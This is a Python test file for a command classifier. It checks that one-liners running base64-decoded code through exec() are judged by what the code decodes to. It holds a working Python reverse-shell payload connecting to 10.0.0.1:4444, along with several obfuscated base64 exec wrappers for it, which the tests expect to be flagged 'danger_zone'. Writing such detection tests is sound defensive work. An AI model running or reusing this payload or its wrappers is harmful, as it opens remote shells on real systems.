"""Code a Python one-liner runs through exec() of a decoded literal is judged as a one-liner of its own:
the rules that read inline code (a socket handed a shell) see what the encoding hid."""

from __future__ import annotations

import base64

import pytest

from dongle.classify.command import classify_command

REVERSE = ('import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));'
           'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])')


def _b64(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


@pytest.mark.parametrize(
    ("command", "tier"),
    [
        (f"python3 -c 'import base64;exec(base64.b64decode(\"{_b64(REVERSE)}\"))'", "danger_zone"),
        (f"python3 -c 'exec(__import__(\"base64\").b64decode(\"{_b64(REVERSE)}\"))'", "danger_zone"),
        (f"python -c 'import base64 as b; exec(b.b64decode(\"{_b64(REVERSE)}\"))'", "danger_zone"),
        # harmless look-alikes: the decoded code prints or computes
        (f"python3 -c 'import base64;exec(base64.b64decode(\"{_b64('print(2 + 2)')}\"))'", "advisory"),
        ("python3 -c 'exec(\"import json; print(json.dumps({}))\")'", "advisory"),
    ],
)
def test_decoded_exec_is_judged_as_code(command: str, tier: str) -> None:
    assert classify_command(command, cwd="/home/dev/project").tier.value == tier
